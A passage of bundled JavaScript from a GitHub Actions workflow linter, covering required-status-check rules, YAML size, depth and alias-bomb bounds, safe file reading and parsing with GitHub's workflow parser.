                    const innerSkip = skip ?? (canSkip(inner.if?.value) ? { reason: `the \`if:\` of job "${inner.id.value}" in ${callee.file.path}`, node: job.uses, hard: false } : undefined);
                    for (const n of jobCheckNames(inner)) {
                        const name = `${caller.name} / ${n.name}`;
                        const pattern = caller.pattern || n.pattern ? new RegExp(`^${caller.pattern ? caller.pattern.source.slice(1, -1) : required_checks_escape(caller.name)} / ${n.pattern ? n.pattern.source.slice(1, -1) : required_checks_escape(n.name)}$`) : undefined;
                        out.push({ name, pattern, workflow, job, skip: innerSkip });
                    }
                }
            }
        }
    }
    return out;
}
function required_checks_escape(text) {
    return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
/** The produced checks that give `name`. */
function producersOf(name, produced) {
    return produced.filter((p) => p.name === name || (p.pattern?.test(name) ?? false));
}
/** Where a finding about the whole set goes: the first workflow file (its `on:` pull request trigger or its top). */
function firstWorkflow(project) {
    for (const file of project.files) {
        const model = file.model;
        if (model?.kind !== 'workflow')
            continue;
        const trigger = PR_TRIGGERS.map((t) => model.on.get(t)).find(Boolean);
        return { workflow: model, node: trigger?.key ?? model.name ?? { at: { line: 1, column: 1 } } };
    }
    return undefined;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-required.js


const required_check_not_required_rule = {
    id: 'PG400',
    name: 'required-check-not-required',
    level: 'error',
    description: 'A status check of the `required-checks` input that neither branch protection nor a ruleset of the base branch requires.',
    help: 'A gate only protects the branch when its check is required: otherwise a pull request merges while `workflows_validation` or `gates_enforcer` fails or never ran. Add the check to the required status checks of the base branch (branch protection, or a ruleset with a "Require status checks to pass" rule), or change the `required-checks` input. Read with the `token` input; branch protection needs a token with administration read access (rulesets need only metadata), so with `GITHUB_TOKEN` alone only rulesets are known and this rule stays silent.',
    create(context) {
        let state;
        return {
            async prepare() {
                if (context.requiredChecks)
                    state = await readRequired(context.requiredChecks);
            },
            finish() {
                const source = context.requiredChecks;
                if (!source || !state || state.partial)
                    return;
                const required = new Set(state.required);
                const produced = producedChecks(context.project);
                const first = firstWorkflow(context.project);
                for (const name of source.expected) {
                    if (required.has(name))
                        continue;
                    const producer = producersOf(name, produced)[0];
                    const where = producer ? { file: producer.workflow.file, node: producer.job.name ?? producer.job.id } : first && { file: first.workflow.file, node: first.node };
                    if (!where)
                        continue;
                    context.report(where.file, where.node, `check "${name}" is not required on branch "${state.branch}" (required: ${nameList(state.required)})`);
                }
            }
        };
    }
};
/* harmony default export */ const required_check_not_required = (required_check_not_required_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-produced.js

const required_check_not_produced_rule = {
    id: 'PG401',
    name: 'required-check-not-produced',
    level: 'warning',
    description: 'A status check the base branch requires that no job of the checked workflows produces under that name.',
    help: 'GitHub names a check after the job: its `name:` (matrix values expanded), else its id; a matrix job without a name gives `id (value, value)` per combination, and a job calling a reusable workflow gives `caller / job`. A required check that nothing reports stays "Expected — Waiting for status to be reported" and blocks every pull request. Rename the job or fix the required check. A check that a GitHub App reports (not a workflow) is also reported here: disable the rule for it with `# phase-gates-disable PG401` or in the config.',
    create(context) {
        let state;
        return {
            async prepare() {
                if (context.requiredChecks)
                    state = await readRequired(context.requiredChecks);
            },
            finish() {
                if (!state)
                    return;
                const first = firstWorkflow(context.project);
                if (!first)
                    return;
                const produced = producedChecks(context.project);
                for (const name of state.required) {
                    if (producersOf(name, produced).length)
                        continue;
                    context.report(first.workflow.file, first.node, `required check "${name}" of branch "${state.branch}" is produced by no job of the checked workflows`);
                }
            }
        };
    }
};
/* harmony default export */ const required_check_not_produced = (required_check_not_produced_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-skippable.js

const required_check_skippable_rule = {
    id: 'PG402',
    name: 'required-check-skippable',
    level: 'warning',
    description: 'A required status check produced only by workflows whose pull request trigger has `paths`/`branches` filters, or only by jobs with an `if:` that can skip them.',
    help: 'A workflow that a `paths`, `paths-ignore`, `branches` or `branches-ignore` filter does not start never reports its checks, so a pull request that touches other files waits forever for a required check (error). A job that its `if:` skips reports success without running, so the required check passes unverified (warning). Produce the required check from a job that always runs (drop the filter and decide inside the job, or add a job with the same name that runs when the filter does not match).',
    create(context) {
        let state;
        return {
            async prepare() {
                if (context.requiredChecks)
                    state = await readRequired(context.requiredChecks);
            },
            finish() {
                if (!state)
                    return;
                const produced = producedChecks(context.project);
                for (const name of state.required) {
                    const producers = producersOf(name, produced);
                    if (!producers.length || producers.some((p) => !p.skip))
                        continue;
                    const hard = producers.find((p) => p.skip.hard);
                    const p = hard ?? producers[0];
                    const skip = p.skip;
                    const why = hard ? 'a pull request it does not start waits for it forever' : 'a skipped job reports success without running';
                    context.report(p.workflow.file, skip.node, `required check "${name}" can be skipped by ${skip.reason}: ${why}`, hard ? 'error' : undefined);
                }
            }
        };
    }
};
/* harmony default export */ const required_check_skippable = (required_check_skippable_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/index.js



const required_checks_family = {
    name: 'required-checks',
    title: 'Required checks',
    description: 'The status checks the base branch requires, against the jobs that produce them.',
    rules: [
        required_check_not_required,
        required_check_not_produced,
        required_check_skippable
    ]
};
/* harmony default export */ const required_checks = (required_checks_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/index.js







/** The families, in the order docs/rules.md presents them. */
const FAMILIES = [syntax, scripts, supply_chain, injection, permissions, deployment, required_checks];
/** Every rule, in id order. */
const RULES = FAMILIES.flatMap((f) => f.rules).sort((a, b) => a.id.localeCompare(b.id));
const FAMILY_OF = new Map(FAMILIES.flatMap((f) => f.rules.map((r) => [r, f])));
/** The family a rule belongs to. */
function rules_familyOf(rule) {
    const family = FAMILY_OF.get(rule);
    if (!family)
        throw new Error(`rule ${rule.id} is in no family`);
    return family;
}
/** The rule with this id or kebab-case name. */
function findRule(idOrName) {
    const key = idOrName.trim();
    return RULES.find((r) => r.id.toLowerCase() === key.toLowerCase() || r.name === key);
}
/** The docs anchor of a rule: its heading in docs/rules.md. */
function docsAnchor(rule) {
    return `${rule.id.toLowerCase()}-${rule.name}`;
}

// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-parser.js + 1 modules
var action_parser = __webpack_require__(4240);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/model/convert.js + 23 modules
var convert = __webpack_require__(9443);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/template-context.js + 1 modules
var template_context = __webpack_require__(5071);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/workflow-schema.js + 1 modules
var workflow_schema = __webpack_require__(2363);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-schema.js + 1 modules
var action_schema = __webpack_require__(8590);
// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var yaml_dist = __webpack_require__(8815);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(1455);
;// CONCATENATED MODULE: ./.build/src/core/yaml-bounds.js
/**
 * Bounds on every YAML text phase-gates parses, checked before the parse in one pass of `yaml`'s
 * own Lexer (linear in the text, constant memory beyond a stack of indentation columns): its size,
 * how deeply it nests (flow brackets and block indentation levels together), how many nodes and
 * how many aliases it holds. The composer and the converters behind it are not linear on hostile
 * shapes (1 KB of `{` lines alone takes minutes and gigabytes through `parseDocument` and
 * `toJS`), so a text past a bound is refused with one line naming the input, the file and the line
 * where the bound was crossed, before any tree is built.
 */



/**
 * Deeper than GitHub's own template reader allows: the runner's PipelineTemplateEvaluator sets
 * MaxDepth = 50 (actions/runner, src/Sdk/DTPipelines/Pipelines/ObjectTemplating/
 * PipelineTemplateEvaluator.cs), so no workflow GitHub runs nests deeper, and our count (which
 * counts a value on its key's line as one more level) stays below 64 for every real file.
 */
const MAX_YAML_DEPTH = 64;
/** Aliases in the small YAML we turn into data (anchors users write; far below a bomb's fan-out). */
const MAX_YAML_ALIASES = 50;
/**
 * Most nodes of a workflow or action metadata. GitHub's parser keeps the `yaml` tree with its source
 * tokens and a template token for every node, about 2 KB a node all told, so this bound is what
 * keeps a file at 300 MB or less. No real workflow comes near it: block-style YAML takes about ten
 * bytes a node, so a workflow at GitHub's 500 KB limit holds about 50,000 (GitHub's own template
 * reader counts at most 1,000,000 events).
 */
const MAX_WORKFLOW_NODES = 100_000;
/** Configuration a person writes (a phase document, a checks list, a config file, an input). */
const CONFIG_LIKE = { maxBytes: 1024 * 1024, maxDepth: MAX_YAML_DEPTH, maxNodes: 50_000, maxAliases: MAX_YAML_ALIASES };
const YAML_BOUNDS = {
    /**
     * GitHub does not run a workflow file over 500 KB: "each workflow file must be 500 KB (512,000
     * bytes) or smaller" (https://docs.github.com/en/actions/reference/limits). The aliases a
     * workflow writes may be many (their expansion is bounded separately, in workflows/source.ts).
     */
    workflow: { what: 'a workflow', maxBytes: 512_000, maxDepth: MAX_YAML_DEPTH, maxNodes: MAX_WORKFLOW_NODES, maxAliases: 10_000, sizeNote: 'GitHub runs no workflow file over 500 KB' },
    /** Action metadata: the same reader and the same bounds as a workflow. */
    action: { what: 'action metadata', maxBytes: 512_000, maxDepth: MAX_YAML_DEPTH, maxNodes: MAX_WORKFLOW_NODES, maxAliases: 10_000 },
    /** A phase document's front matter: a few KB with a handful of gates. */
    phase: { what: 'a phase document', ...CONFIG_LIKE },
    /** A smoke-test checks list: at most 200 checks of a few keys each. */
    checks: { what: 'a checks list', ...CONFIG_LIKE },
    /** The workflows-validation config (.github/phase-gates.yml). */
    config: { what: 'a config file', ...CONFIG_LIKE },
    /** YAML given in an input (gates, metrics, provider-options, …). */
    input: { what: 'YAML input', ...CONFIG_LIKE }
};
const DOCUMENT = '\x02';
const FLOW_END = '\x18';
const SCALAR = '\x1f';
/** The 1-based line and column of the first character past `maxBytes` UTF-8 bytes of `text`. */
function positionPastBytes(text, maxBytes) {
    let bytes = 0;
    let line = 1;
    let lineStart = 0;
    for (let i = 0; i < text.length; i++) {
        const c = text.charCodeAt(i);
        bytes += c < 0x80 ? 1 : c < 0x800 ? 2 : c >= 0xd800 && c < 0xdc00 ? 4 : c >= 0xdc00 && c < 0xe000 ? 0 : 3;
        if (bytes > maxBytes)
            return { line, column: i - lineStart + 1 };
        if (c === 10) {
            line++;
            lineStart = i + 1;
        }
    }
    return { line, column: 1 };
}
/** The size refusal of a text (or file) of `size` bytes over `bounds`. */
function sizeMessage(size, bounds) {
    const n = (v) => v.toLocaleString('en-US');
    return `${bounds.what} of ${n(size)} bytes is larger than the limit of ${n(bounds.maxBytes)} bytes${bounds.sizeNote ? ` (${bounds.sizeNote})` : ''}; not parsed`;
}
/**
 * The first bound `text` crosses, or undefined. One pass of the Lexer, stopped at the first
 * problem; nothing is parsed.
 */
function yamlBoundsProblem(text, bounds) {
    if (text.length > bounds.maxBytes || Buffer.byteLength(text, 'utf8') > bounds.maxBytes) {
        const size = Buffer.byteLength(text, 'utf8');
        if (size > bounds.maxBytes)
            return { message: sizeMessage(size, bounds), ...positionPastBytes(text, bounds.maxBytes) };
    }
    let offset = 0;
    let line = 1;
    let lineStart = 0;
    let flow = 0;
    /** Columns of the open block levels, increasing. */
    const block = [];
    let nodes = 0;
    let aliases = 0;
    let afterScalarMark = false;
    const at = (message) => ({ message, line, column: offset - lineStart + 1 });
    const tooDeep = () => at(`${bounds.what} nested deeper than ${bounds.maxDepth} levels; not parsed`);
    const blockAt = (column) => {
        while (block.length && block[block.length - 1] > column)
            block.pop();
        if (!block.length || block[block.length - 1] < column)
            block.push(column);
        return block.length + flow > bounds.maxDepth;
    };
    for (const token of new yaml_dist/* Lexer */.JG().lex(text)) {
        if (token === DOCUMENT || token === FLOW_END || token === SCALAR) {
            if (token === FLOW_END)
                flow = 0;
            if (token === SCALAR)
                afterScalarMark = true;
            continue;
        }
        const column = offset - lineStart;
        const first = token[0];
        let node = false;
        if (afterScalarMark) {
            afterScalarMark = false;
            node = true;
            if (flow === 0 && blockAt(column))
                return tooDeep();
        }
        else if (token === '---' || token === '...') {
            flow = 0;
            block.length = 0;
        }
        else if (token === '[' || token === '{') {
            node = true;
            if (flow === 0 && blockAt(column))
                return tooDeep();
            flow++;
            if (block.length + flow > bounds.maxDepth)
                return tooDeep();
        }
        else if (token === ']' || token === '}') {
            if (flow > 0)
                flow--;
        }
        else if (token === '-' || token === '?') {
            // A block sequence entry counts as a node (it may hold none: `-` alone is a null).
            node = token === '-';
            if (flow === 0 && blockAt(column))
                return tooDeep();
        }
        else if (first === '*') {
            node = true;
            if (++aliases > bounds.maxAliases)
                return at(`${bounds.what} with more than ${bounds.maxAliases} aliases; not parsed`);
            if (flow === 0 && blockAt(column))
                return tooDeep();
        }
        else if (first === '"' || first === "'") {
            node = true;
            if (flow === 0 && blockAt(column))
                return tooDeep();
        }
        if (node && ++nodes > bounds.maxNodes)
            return at(`${bounds.what} of more than ${bounds.maxNodes.toLocaleString('en-US')} YAML nodes; not parsed`);
        let nl = token.indexOf('\n');
        while (nl >= 0) {
            line++;
            lineStart = offset + nl + 1;
            nl = token.indexOf('\n', nl + 1);
        }
        offset += token.length;
    }
    return undefined;
}
/** Throws a UserError naming input, file and line when `text` crosses one of `bounds`. */
function checkYamlBounds(text, bounds, where) {
    const problem = yamlBoundsProblem(text, bounds);
    if (problem)
        throw new core_errors/* UserError */.y(problem.message, { input: where.input, file: where.file, line: problem.line + (where.lineOffset ?? 0) });
}
/**
 * The size refusal of a file of `size` bytes, at the line where its first `bounds.maxBytes` bytes
 * end (read, not the rest of the file).
 */
async function oversizeProblem(abs, size, bounds) {
    const handle = await (0,promises_.open)(abs, 'r');
    try {
        const head = Buffer.alloc(bounds.maxBytes);
        const { bytesRead } = await handle.read(head, 0, bounds.maxBytes, 0);
        let line = 1;
        let lineStart = 0;
        for (let i = head.indexOf(10); i >= 0 && i < bytesRead; i = head.indexOf(10, i + 1)) {
            line++;
            lineStart = i + 1;
        }
        return { message: sizeMessage(size, bounds), line, column: Buffer.from(head.subarray(lineStart, bytesRead)).toString('utf8').length + 1 };
    }
    finally {
        await handle.close();
    }
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/source.js
/**
 * Reading workflow and action files safely (internal to workflows-validation): size, encoding and
 * alias-expansion limits are checked before GitHub's parser sees the text, so that one hostile file
 * costs bounded time and memory and becomes a finding for that file instead of ending the run.
 */



/** Most YAML nodes a file may expand to through aliases (a billion-laughs file expands to ~10⁹). */
const MAX_EXPANDED_NODES = 200_000;
/** Action metadata is named action.yml or action.yaml; everything else is taken for a workflow. */
function kindOf(relPath) {
    return /(^|\/)action\.ya?ml$/.test(relPath) ? 'action' : 'workflow';
}
/** The bounds of a kind's text: GitHub's own size limit, nesting depth, nodes, aliases. */
function boundsOf(kind) {
    return kind === 'action' ? YAML_BOUNDS.action : YAML_BOUNDS.workflow;
}
/**
 * The first bound of its kind (src/core/yaml-bounds.ts) a source's text crosses, before GitHub's
 * parser sees it: that parser builds a tree and error objects without limit.
 */
function boundsProblem(source) {
    const problem = yamlBoundsProblem(source.text, boundsOf(source.kind));
    return problem && { message: problem.message, line: problem.line, column: problem.column };
}
/**
 * Reads a file as UTF-8 text, or says why not: too large (GitHub's limit: a file past it is read up
 * to the limit only, for the line), not a regular file, binary (a NUL byte) or not valid UTF-8.
 */
async function readSource(abs, bounds = YAML_BOUNDS.workflow) {
    let stat;
    try {
        stat = await external_node_fs_.promises.stat(abs);
    }
    catch (err) {
        const code = err.code;
        return { problem: { message: code === 'ENOENT' ? 'file not found' : `cannot read the file (${code})`, line: 1, column: 1 } };
    }
    if (!stat.isFile())
        return { problem: { message: 'not a regular file', line: 1, column: 1 } };
    if (stat.size > bounds.maxBytes)
        return { problem: await oversizeProblem(abs, stat.size, bounds) };
    const bytes = await external_node_fs_.promises.readFile(abs);
    const nul = bytes.indexOf(0);
    if (nul >= 0)
        return { problem: { message: 'binary file (a NUL byte), not YAML', ...positionOfByte(bytes, nul) } };
    let text;
    try {
        text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
    }
    catch {
        return { problem: { message: 'not valid UTF-8 text (GitHub reads workflows as UTF-8)', ...positionOfByte(bytes, firstInvalidUtf8(bytes)) } };
    }
    if (text.charCodeAt(0) === 0xfeff)
        text = text.slice(1);
    return { text };
}
function positionOfByte(bytes, offset) {
    let line = 1;
    let lineStart = 0;
    for (let i = 0; i < offset; i++) {
        if (bytes[i] === 10) {
            line++;
            lineStart = i + 1;
        }
    }
    return { line, column: Buffer.from(bytes.subarray(lineStart, offset)).toString('utf8').length + 1 };
}
/** Offset of the first byte that does not decode as UTF-8 (a strict decode already failed). */
function firstInvalidUtf8(bytes) {
    // Bisect on prefixes that decode: cheap, and exact up to a truncated sequence at the cut.
    const decoder = new TextDecoder('utf-8', { fatal: true });
    let lo = 0;
    let hi = bytes.length;
    while (hi - lo > 4) {
        const mid = (lo + hi) >> 1;
        try {
            decoder.decode(bytes.subarray(0, mid), { stream: true });
            decoder.decode();
            lo = mid;
        }
        catch {
            hi = mid;
        }
    }
    for (let i = lo; i <= hi; i++) {
        try {
            new TextDecoder('utf-8', { fatal: true }).decode(bytes.subarray(0, i + 1), { stream: true });
        }
        catch {
            return i;
        }
    }
    return lo;
}
/**
 * Refuses YAML whose aliases expand past {@link MAX_EXPANDED_NODES}. GitHub's parser resolves every
 * alias in place, so a billion-laughs file would otherwise take exponential time and memory. The
 * count is memoised per anchored node: linear in the size of the document.
 */
function aliasBomb(text) {
    // No anchor, no alias expansion: skip the second parse for the common file.
    if (!/&[^\s&*]/.test(text))
        return undefined;
    const lineCounter = new yaml_dist/* LineCounter */.HN();
    const doc = (0,yaml_dist/* parseDocument */.Tp)(text, { lineCounter, uniqueKeys: false });
    const sizes = new Map();
    let firstAlias;
    const size = (node, depth) => {
        if (node === null || node === undefined)
            return 1;
        const known = sizes.get(node);
        if (known !== undefined)
            return known;
        if (depth > 1000)
            return MAX_EXPANDED_NODES + 1;
        let n = 1;
        if ((0,yaml_dist/* isAlias */.Vj)(node)) {
            firstAlias ??= node;
            const target = node.resolve(doc);
            // A circular alias is dropped by the parser: it expands to nothing.
            sizes.set(node, 1);
            n = target ? size(target, depth + 1) : 1;
        }
        else if ((0,yaml_dist/* isMap */.jh)(node) || (0,yaml_dist/* isSeq */.oP)(node)) {
            for (const item of node.items) {
                n += size(item, depth + 1);
                if (n > MAX_EXPANDED_NODES)
                    break;
            }
        }
        else if ((0,yaml_dist/* isPair */.tO)(node)) {
            n = size(node.key, depth + 1) + size(node.value, depth + 1);
        }
        else if (!(0,yaml_dist/* isScalar */.jn)(node)) {
            n = 1;
        }
        sizes.set(node, n);
        return n;
    };
    const total = size(doc.contents, 0);
    if (total <= MAX_EXPANDED_NODES)
        return undefined;
    const at = firstAlias?.range ? lineCounter.linePos(firstAlias.range[0]) : { line: 1, col: 1 };
    return {
        message: `YAML aliases expand to more than ${MAX_EXPANDED_NODES} nodes (an alias bomb?); not parsed`,
        line: at.line,
        column: at.col
    };
}
/** The top-level keys of a kind: a mapping with one of them is of that kind. */
function kindKeys(kind) {
    return kind === 'workflow' ? WORKFLOW_KEYS : ACTION_KEYS;
}
/** Top-level keys only a workflow has; a mapping with none of them is something else. */
const WORKFLOW_KEYS = ['on', 'jobs'];
/** Top-level keys only action metadata has. */
const ACTION_KEYS = ['runs', 'name', 'description', 'author', 'inputs', 'outputs', 'branding'];
/**
 * Says, in one line, why a file that GitHub's parser refused is not a workflow (or not action
 * metadata) at all: another file extension, several YAML documents, a top level that is not a
 * mapping, or none of the keys of its kind. Undefined for a file of the right kind with errors in
 * it: those are the parser's to report, each at its place. Only called for files with problems.
 */
function notThisKind(source) {
    const what = source.kind === 'workflow' ? 'a workflow' : 'action metadata';
    if (!/\.ya?ml$/i.test(source.path)) {
        return { message: `not ${what}: GitHub reads ${source.kind === 'workflow' ? 'workflows' : 'action metadata'} from .yml or .yaml files only`, line: 1, column: 1 };
    }
    const lineCounter = new yaml_dist/* LineCounter */.HN();
    const docs = (0,yaml_dist/* parseAllDocuments */.hR)(source.text, { lineCounter, uniqueKeys: false });
    if (!Array.isArray(docs) || docs.length === 0 || docs[0].contents === null) {
        return { message: `not ${what}: the file holds no YAML value`, line: 1, column: 1 };
    }
    if (docs.length > 1) {
        const second = lineCounter.linePos(docs[1].range[0]);
        return { message: `not ${what}: ${docs.length} YAML documents (the second starts at line ${second.line}); GitHub reads one document per file`, line: second.line, column: 1 };
    }
    const doc = docs[0];
    if (doc.errors.length)
        return undefined;
    const top = doc.contents;
    if (!(0,yaml_dist/* isMap */.jh)(top)) {
        const shape = (0,yaml_dist/* isSeq */.oP)(top) ? 'a list' : 'a single value';
        const at = top?.range ? lineCounter.linePos(top.range[0]) : { line: 1, col: 1 };
        return { message: `not ${what}: its top level is ${shape}, not a mapping${source.kind === 'workflow' ? ' with on: and jobs:' : ' with runs:'}`, line: at.line, column: at.col };
    }
    const keys = top.items.map((p) => ((0,yaml_dist/* isScalar */.jn)(p.key) ? String(p.key.value) : '')).filter(Boolean);
    const expected = source.kind === 'workflow' ? WORKFLOW_KEYS : ACTION_KEYS;
    if (keys.some((k) => expected.includes(k)))
        return undefined;
    const listed = keys.slice(0, 5).join(', ') + (keys.length > 5 ? `, … (${keys.length} keys)` : '');
    const needs = source.kind === 'workflow' ? 'neither on: nor jobs:' : 'no runs:';
    return { message: `not ${what}: ${needs} at its top level (its keys: ${listed})`, line: 1, column: 1 };
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/parse.js
/**
 * Parsing with GitHub's own `@actions/workflow-parser` (internal to workflows-validation): its
 * messages, positioned, and the model built from its token tree. A file that cannot be read or
 * parsed still yields a {@link ParsedFile}, with its problems and no model, so that one broken file
 * never hides the findings of the others.
 */









/**
 * Most messages of GitHub's parser kept for one file (GitHub's own template reader keeps 10): a
 * file of many faults would otherwise hold hundreds of thousands of error objects. The others are
 * counted and said in one more message.
 */
const MAX_PARSER_MESSAGES = 1000;
/** Longest parser message kept (GitHub's template reader cuts at 500 characters). */
const MAX_PARSER_MESSAGE_CHARS = 1000;
/** The parser's error list, keeping the first {@link MAX_PARSER_MESSAGES} and counting the rest. */
class BoundedErrors extends template_context/* TemplateValidationErrors */.R {
    dropped = 0;
    constructor() {
        super(MAX_PARSER_MESSAGES, MAX_PARSER_MESSAGE_CHARS);
    }
    add(err) {
        const before = this.count;
        super.add(err);
        this.dropped += (Array.isArray(err) ? err.length : 1) - (this.count - before);
    }
}
/**
 * Most jobs of a workflow analysed. GitHub's converter checks `needs:` in time quadratic in the
 * jobs (its validateNeeds rescans every waiting job each time one is satisfied: 2 s for 14,000
 * jobs here, about the most 500 KB holds), and nothing of ours should be; 10,000 is far above any
 * real workflow (a matrix alone may make at most 256 jobs of a run).
 */
const MAX_JOBS = 10_000;
/** The refusal of a workflow of more than {@link MAX_JOBS} jobs, at its `jobs:` key. */
function tooManyJobs(root) {
    if (!root || !(0,dist/* isMapping */.pi)(root))
        return undefined;
    for (const pair of root) {
        if (!(0,dist/* isString */.Kg)(pair.key) || pair.key.value !== 'jobs' || !(0,dist/* isMapping */.pi)(pair.value) || pair.value.count <= MAX_JOBS)
            continue;
        const at = pair.key.range ? { line: pair.key.range.start.line, column: pair.key.range.start.column } : { line: 1, column: 1 };
        return { message: `a workflow of ${pair.value.count.toLocaleString('en-US')} jobs is more than the ${MAX_JOBS.toLocaleString('en-US')} analysed; not analysed`, at };
    }
    return undefined;
}
/** Parses text already read (tests and fixtures use this directly). */
async function parseSource(source) {
    const bomb = boundsProblem(source) ?? aliasBomb(source.text);
    if (bomb)
        return { source, problems: [{ stage: 'read', message: bomb.message, at: { line: bomb.line, column: bomb.column } }] };
    const file = { name: source.path, content: source.text };
    const errors = new BoundedErrors();
    const context = new template_context/* TemplateContext */.m(errors, source.kind === 'action' ? (0,action_schema/* getActionSchema */.E)() : (0,workflow_schema/* getWorkflowSchema */.L)(), new dist/* NoOperationTraceWriter */.P0());
    let result;
    try {
        result = source.kind === 'action' ? (0,action_parser/* parseAction */.w)(file, context) : (0,dist/* parseWorkflow */.hM)(file, context);
        const tooMany = source.kind === 'workflow' ? tooManyJobs(result.value) : undefined;
        if (tooMany)
            return { source, problems: [{ stage: 'read', ...tooMany }] };
        if (source.kind === 'workflow' && result.value) {
            // The converter adds GitHub's semantic checks (cron, step ids, if: conditions, …); its
            // results are discarded, only its messages kept. No file provider: local reusable workflows
            // are checked by our own rules, which know the workspace.
            await (0,dist/* convertWorkflowTemplate */.DE)(result.context, result.value, undefined, { errorPolicy: convert/* ErrorPolicy */.t.TryConversion });
        }
    }
    catch (err) {
        return { source, problems: [{ stage: 'parser', message: `the workflow parser failed: ${err.message}`, at: { line: 1, column: 1 } }] };
    }
    const problems = result.context.errors.getErrors().map((e) => ({
        stage: 'parser',
        // YAML errors come with a multi-line snippet; a finding is one line.
        message: e.rawMessage.split('\n')[0].replace(/ at line \d+, column \d+:?\s*$/, ''),
        at: e.range ? { line: e.range.start.line, column: e.range.start.column } : prefixPos(e.prefix)
    }));
    if (errors.dropped) {
        problems.push({
            stage: 'parser',
            message: `${errors.dropped.toLocaleString('en-US')} more messages of GitHub's parser in this file, not listed (the first ${MAX_PARSER_MESSAGES.toLocaleString('en-US')} are)`,
            at: { line: 1, column: 1 }
        });
    }
    if (problems.length && !ofItsKind(source, result.value)) {
        // A file that is not of this kind at all gets one line saying so, not the parser's many.
        const other = notThisKind(source);
        if (other)
            return { source, problems: [{ stage: 'read', message: other.message, at: { line: other.line, column: other.column } }] };
    }
    if (source.kind === 'action' && result.value) {
        // Descriptions are documentation: the runner never evaluates a `${{ }}` written in them
        // (e.g. an example value), though the action schema's parser checks it.
        const docs = descriptionRanges(result.value);
        for (let i = problems.length - 1; i >= 0; i--)
            if (docs.some((r) => inside(problems[i].at, r)))
                problems.splice(i, 1);
    }
    let model;
    if (result.value && (0,dist/* isMapping */.pi)(result.value)) {
        model = source.kind === 'action' ? buildAction(source, result.value) : buildWorkflow(source, result.value);
    }
    return { source, problems, model };
}
/**
 * A top level the parser read as a mapping with a key of the file's kind (`on:`/`jobs:`, `runs:` …):
 * surely of its kind, so that {@link notThisKind} need not parse the file a second time.
 */
function ofItsKind(source, root) {
    if (!root || !(0,dist/* isMapping */.pi)(root) || !/\.ya?ml$/i.test(source.path))
        return false;
    const keys = kindKeys(source.kind);
    for (const pair of root)
        if ((0,dist/* isString */.Kg)(pair.key) && keys.includes(pair.key.value))
            return true;
    return false;
}
/** `name (Line: 3, Col: 5)` → its position, for the few messages that carry no range. */
function prefixPos(prefix) {
    const m = /\(Line: (\d+), Col: (\d+)\)/.exec(prefix ?? '');
    return m ? { line: Number(m[1]), column: Number(m[2]) } : { line: 1, column: 1 };
}
/** Reads and parses one file; `path` is relative to the workspace with forward slashes. */
async function loadFile(abs, path) {
    const kind = kindOf(path);
    const read = await readSource(abs, boundsOf(kind));
    if ('problem' in read) {
        const source = { path, abs, kind, text: '' };
        return { source, problems: [{ stage: 'read', message: read.problem.message, at: { line: read.problem.line, column: read.problem.column } }] };
    }
    return parseSource({ path, abs, kind, text: read.text });
}
function inside(p, r) {
    const afterStart = p.line > r.start.line || (p.line === r.start.line && p.column >= r.start.column);
    const beforeEnd = p.line < r.end.line || (p.line === r.end.line && p.column <= r.end.column);
    return afterStart && beforeEnd;
}
/** Ranges of every `description:` value of action metadata. */
function descriptionRanges(root) {
    const ranges = [];
    for (const [parent, token, key] of template_token/* TemplateToken */.s.traverse(root)) {
        if (parent && key && (0,dist/* isString */.Kg)(key) && key.value === 'description' && token !== key && token.range)
            ranges.push(token.range);
    }
    return ranges;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/lint.js
/**
 * One validation run (internal to workflows-validation): parsed files in, findings out. Loads the
 * local actions and reusable workflows the files refer to, walks every file with each rule's hooks
 * (the visitor), then applies the config: disabled rules, changed levels, and inline
 * `# phase-gates-disable PGxxx` comments.
 */



/** The path a local `uses:` names, relative to the workspace; undefined for a remote one. */
function localUsesPath(uses) {
    if (!uses.startsWith('./'))
        return undefined;
    return external_node_path_.posix.normalize(uses.replace(/\/+$/, ''));
}
/**
 * Longest message of a finding: a parser message may quote a value of any length (GitHub's own
 * template reader cuts its messages at 500 characters).
 */
const MAX_MESSAGE_CHARS = 1000;
/** Most files loaded for local references in one run (a bound, not a limit anyone should meet). */
const MAX_LOCAL_FILES = 500;
class LocalFiles {
    workspace;
    models = new Map();
    constructor(workspace, files) {
        this.workspace = workspace;
        for (const f of files)
            if (f.model)
                this.models.set(f.source.path, f.model);
    }
    /** Candidate files of a local `uses:`: the workflow itself, or a directory's action.yml. */
    candidates(rel) {
        return /\.ya?ml$/.test(rel) ? [rel] : [`${rel}/action.yml`, `${rel}/action.yaml`];
    }
    /** Loads every local file the models refer to, transitively (composite actions using others). */
    async preload() {
        const queue = [...this.models.values()];
        while (queue.length && this.models.size < MAX_LOCAL_FILES) {
            const model = queue.shift();
            for (const uses of usesOf(model)) {
                const rel = localUsesPath(uses);
                if (!rel)
                    continue;
                for (const candidate of this.candidates(rel)) {
                    if (this.models.has(candidate))
                        break;
                    const abs = this.inside(candidate);
                    if (!abs || !(0,external_node_fs_.existsSync)(abs))
                        continue;
                    const parsed = await loadFile(abs, candidate);
                    this.models.set(candidate, parsed.model);
                    if (parsed.model)
                        queue.push(parsed.model);
                    break;
                }
            }
        }
    }
    /** The absolute path when it stays inside the workspace (links followed), else undefined. */
    inside(rel) {
        const root = (0,external_node_fs_.realpathSync)(this.workspace);
        const abs = external_node_path_.resolve(root, rel);
        try {
            const real = (0,external_node_fs_.realpathSync)(abs);
            const r = external_node_path_.relative(root, real);
